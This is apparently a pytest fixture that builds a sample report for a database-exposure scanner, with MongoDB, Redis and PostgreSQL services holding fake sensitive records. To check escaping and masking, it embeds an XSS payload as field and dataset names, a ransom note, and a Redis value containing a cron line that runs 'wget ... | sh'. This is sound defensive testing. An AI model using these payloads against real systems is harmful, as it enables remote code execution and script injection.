"""A realistic report, built through assess, with a canary and hostile names (for every report test)."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

import pytest

from ajar.mask import mask
from ajar.models import (
    Access,
    Category,
    Dataset,
    Evidence,
    FieldReport,
    Record,
    Report,
    Rights,
    ScopeInfo,
    Service,
    Status,
    ToolInfo,
)
from ajar.pipeline.assess import DatasetEvidence, assess_dataset, assess_service

#: A raw value that must never appear in any rendered format.
CANARY = "CANARY7f3a9e110101199003071234"
XSS = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
NOW = datetime(2025, 6, 1, 12, 0, tzinfo=UTC)


@dataclass
class Classified:
    fields: list[FieldReport] = field(default_factory=list)
    movement_trail: bool = False
    trail_detail: dict[str, str] = field(default_factory=dict)
    person_key: str | None = None
    timestamp_paths: list[str] = field(default_factory=list)


def _fr(path: str, cat: Category, raw: list[str]) -> FieldReport:
    return FieldReport(
        path=path,
        category=cat,
        confidence=0.95,
        prevalence=0.9,
        values=len(raw),
        examples=[mask(v) for v in raw],
        detectors=[cat.value.split(".")[1]],
    )


def build_report() -> Report:
    people_fields = [
        _fr("sfzh", Category.NATIONAL_ID, [CANARY, "110101199003071234"]),
        _fr("xm", Category.PERSON_NAME, ["Zhang Wei", "Ли Мин"]),
        _fr("minzu", Category.ETHNICITY, ["Han", "Uyghur"]),
    ]
    people = Dataset(name="face.people", records=2_500_000, size_bytes=10**9)
    recs = [Record({"sfzh": f"ID{i}", "xm": "n"}) for i in range(40)]
    ev_people = DatasetEvidence(records=recs, classified=Classified(fields=people_fields, person_key="sfzh"))
    sight_fields = [_fr("loc", Category.COORDINATES, ["[116.40, 39.90]"]), _fr(XSS, Category.PERSON_NAME, ["A B"])]
    sightings = Dataset(name="face.sightings", records=6_700_000)
    srecs = [Record({"pid": f"P{i % 10}", "ts": NOW - timedelta(minutes=i)}) for i in range(40)]
    ev_sight = DatasetEvidence(
        records=srecs,
        classified=Classified(
            fields=sight_fields,
            movement_trail=True,
            person_key="pid",
            timestamp_paths=["ts"],
            trail_detail={"coordinates": "loc", "time": "ts", "person": "pid"},
        ),
        count_before=6_700_000,
        t_before=0.0,
        count_after=6_700_120,
        t_after=60.0,
    )
    note = Dataset(name="README.README", records=1)
    ev_note = DatasetEvidence(
        records=[Record({"content": "pay BTC to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT"})], classified=Classified()
    )
    hostile = Dataset(name=XSS, records=0)
    ev_hostile = DatasetEvidence(records=[], classified=Classified())
    mongo = Service(
        host="127.0.0.2",
        port=27017,
        engine="mongodb",
        version="4.4.29",
        tls=False,
        status=Status.SUCCESS,
        access=Access.OPEN,
        rights=Rights(read=True, write=True, basis="roles"),
        evidence=[Evidence(command="listDatabases", reply='{"databases": [...], "ok": 1}')],
        datasets=[people, sightings, note, hostile],
    )
    extra = []
    for d, e in ((people, ev_people), (sightings, ev_sight), (note, ev_note), (hostile, ev_hostile)):
        extra += assess_dataset(d, e, engine="mongodb", now=NOW)
    assess_service(mongo, extra)

    redis_ds = Dataset(name="db0", kind="keyspace", records=3)
    redis_ev = DatasetEvidence(
        records=[Record({"key": "backup1", "value": "*/1 * * * * root wget -q http://x/y|sh"})], classified=Classified()
    )
    redis = Service(
        host="127.0.0.2",
        port=6379,
        engine="redis",
        version="7.0.15",
        tls=False,
        status=Status.SUCCESS,
        access=Access.OPEN,
        evidence=[Evidence(command="INFO keyspace", reply="db0:keys=3")],
        datasets=[redis_ds],
    )
    assess_service(redis, assess_dataset(redis_ds, redis_ev, engine="redis", now=NOW))

    pg = Service(
        host="127.0.0.2",
        port=5432,
        engine="postgresql",
        version="15.8",
        tls=True,
        status=Status.SUCCESS,
        access=Access.METADATA,
        datasets=[Dataset(name="crm.public.customers", kind="table", records=5000)],
    )
    assess_service(pg)
    locked = Service(
        host="127.0.0.3",
        port=6379,
        engine="redis",
        version="7.0.15",
        tls=True,
        status=Status.SUCCESS,
        access=Access.AUTH_REQUIRED,
        evidence=[Evidence(command="PING", reply="-NOAUTH Authentication required.")],
    )
    assess_service(locked)
    refused = Service(host="127.0.0.3", port=9200, status=Status.REFUSED)
    assess_service(refused)
    return Report(
        tool=ToolInfo(version="0.1.0"),
        scope=ScopeInfo(targets=["127.0.0.2", "127.0.0.3"]),
        started=NOW - timedelta(minutes=2),
        finished=NOW,
        services=[mongo, redis, pg, locked, refused],
        errors=["127.0.0.3:9200: refused"],
    )


@pytest.fixture
def report() -> Report:
    return build_report()
